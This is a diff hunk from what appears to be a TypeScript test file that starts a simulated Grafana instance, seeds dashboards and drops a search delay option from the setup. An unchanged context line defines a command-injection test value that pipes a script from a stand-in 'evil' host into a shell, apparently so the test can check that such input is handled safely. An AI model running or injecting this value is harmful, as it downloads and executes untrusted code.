@@ -11,7 +11,7 @@ let directory: Awaited<ReturnType<typeof memoryDirectory>>;
 const COMMAND = 'x; curl http://evil/x | sh #';
 
 beforeEach(async () => {
-  grafana = await startGrafana({ profile: '12.4', searchDelayMs: 0 });
+  grafana = await startGrafana({ profile: '12.4' });
   grafana.seedDashboards({ count: 3, folders: 1 });
   directory = await memoryDirectory();
 });
